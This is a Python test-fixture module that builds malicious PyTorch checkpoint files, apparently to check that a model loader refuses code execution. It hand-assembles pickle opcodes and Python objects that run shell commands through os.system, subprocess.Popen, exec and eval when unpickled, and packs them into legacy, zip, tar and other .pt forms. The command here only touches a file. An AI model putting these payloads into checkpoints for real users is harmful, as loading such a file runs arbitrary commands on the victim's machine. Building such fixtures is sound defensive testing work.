"""Checkpoints that attack: real pickles, made opcode by opcode where Python would not write them."""

from __future__ import annotations

import builtins
import io
import os
import pickle
import struct
import subprocess
import tarfile
import zipfile
from collections import OrderedDict
from pathlib import Path

import torch
from torch import nn

SHAPES = Path(__file__).parents[2] / "models/weights/shapes.pt"


class Calls:
    """Pickles as a call."""

    def __init__(self, function, *args):
        self.call = function, args

    def __reduce__(self):
        return self.call


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def named(name: str) -> bytes:
    return (
        b"c" + name.replace(".", "\n", 1).encode() + b"\n"
        if name.count(".") == 1
        else b"c" + b"\n".join(part.encode() for part in name.rsplit(".", 1)) + b"\n"
    )


def dumped(value: object) -> bytes:
    """The opcodes that make a value."""
    return pickle.dumps(value, 2)[2:-1]


def evaluated(touch: str) -> dict[str, object]:
    """The configuration of a model whose constructor evaluates what it calls its activation."""
    activation = f"__import__('os').system({touch!r}) or __import__('torch').nn.SiLU()"
    return {"nc": 1, "activation": activation, "backbone": [[-1, 1, "Conv", [8, 3, 2]]], "head": []}


CONV = "torch.nn.modules.conv.Conv2d"
SEQUENTIAL = "torch.nn.modules.container.Sequential"


def opcodes(touch: str) -> dict[str, bytes]:
    """The pickle alone; ``touch`` is the shell's command."""
    system = named("os.system")
    new = named(SEQUENTIAL) + b")\x81"  # an empty Sequential
    return {
        "REDUCE": b"\x80\x02" + system + text(touch) + b"\x85R.",
        "STACK_GLOBAL": b"\x80\x04" + text("os") + text("system") + b"\x93" + text(touch) + b"\x85R.",
        "INST": b"(S" + repr(touch).encode() + b"\nios\nsystem\n.",
        "OBJ": b"\x80\x02(" + system + text(touch) + b"o.",
        "NEWOBJ": b"\x80\x02" + named("subprocess.Popen") + b"]" + text("/bin/sh") + b"a" + text("-c")
        + b"a" + text(touch) + b"a\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04" + named("subprocess.Popen") + text(touch) + b"\x85}" + text("shell") + b"\x88s\x92.",
        "a call by getattr": b"\x80\x02" + named("builtins.getattr") + named("builtins.__import__") + text("os")
        + b"\x85R" + text("system") + b"\x86R" + text(touch) + b"\x85R.",
        "a constructor": b"\x80\x02" + named("ultralytics.nn.tasks.DetectionModel") + dumped(evaluated(touch))
        + b"\x85R.",
        "a method of a layer": b"\x80\x02" + named("builtins.getattr") + new + text("forward") + b"\x86R"
        + text(touch) + b"\x85R.",
        "BUILD of a class": b"\x80\x02" + named(CONV) + b"}" + text("forward") + system + b"sb.",
        "BUILD by a method of its own": b"\x80\x02" + new + b"}" + text("__setstate__") + system + b"sb}" + text(touch)
        + b"\x88sb.",
        "APPEND by a method of its own": b"\x80\x02" + new + b"}" + text("append") + system + b"sb"
        + text(touch) + b"a.",
        "a parameter of its own making": b"\x80\x02" + named("torch._utils._rebuild_parameter") + system + text(touch)
        + b"\x85R\x85R.",
        "a persistent id": b"\x80\x02(" + text("storage") + system + text(touch) + b"\x85R" + text("0") + text("cpu")
        + b"K\x01tQ.",
        "an attribute of an allowed module": b"\x80\x04" + text("ultralytics.nn.tasks") + text("torch.hub.load")
        + b"\x93" + text("x") + b"\x85R.",
        "torch's own rebuilder": b"\x80\x02" + named("torch._utils._rebuild_wrapper_subclass") + named(CONV)
        + b"\x85R.",
    }  # fmt: skip


def calls(touched: Path) -> dict[str, object]:
    """Objects that pickle as attacks."""
    touch = f"touch {touched}"
    return {
        "os.system": Calls(os.system, touch),
        "exec": Calls(builtins.exec, f"import os; os.system({touch!r})"),
        "open": Calls(open, str(touched), "w"),
        "subprocess": Calls(subprocess.check_call, ["touch", str(touched)]),
        "nested": {"a": [OrderedDict(b=Calls(eval, f"open({str(touched)!r}, 'w')"))]},
    }


def archive(path: Path, pickled: bytes, **more: bytes) -> Path:
    """A ``.pt`` as torch writes it, with any pickle in it."""
    with zipfile.ZipFile(path, "w") as file:
        for name, content in {"data.pkl": pickled, "version": b"3\n", **more}.items():
            file.writestr(f"archive/{name}", content)
    return path


def containers(folder: Path, touched: Path) -> dict[str, Path]:
    """The same call in every form a ``.pt`` may have."""
    evil = Calls(os.system, f"touch {touched}")
    torch.save({"model": evil}, folder / "legacy.pt", _use_new_zipfile_serialization=False)
    (folder / "plain.pt").write_bytes(pickle.dumps({"model": evil}))
    (folder / "protocol0.pt").write_bytes(pickle.dumps({"model": evil}, 0))
    torch.save({"model": evil}, folder / "protocol5.pt", pickle_protocol=5)
    archive(folder / "second.pt", pickle.dumps({}), **{"more/data.pkl": pickle.dumps(evil)})
    torch.jit.script(nn.Identity()).save(str(folder / "script.pt"))
    with tarfile.open(folder / "tar.pt", "w") as tar:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            info, content = tarfile.TarInfo(name), pickle.dumps(evil)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    return {path.stem: path for path in folder.glob("*.pt")}
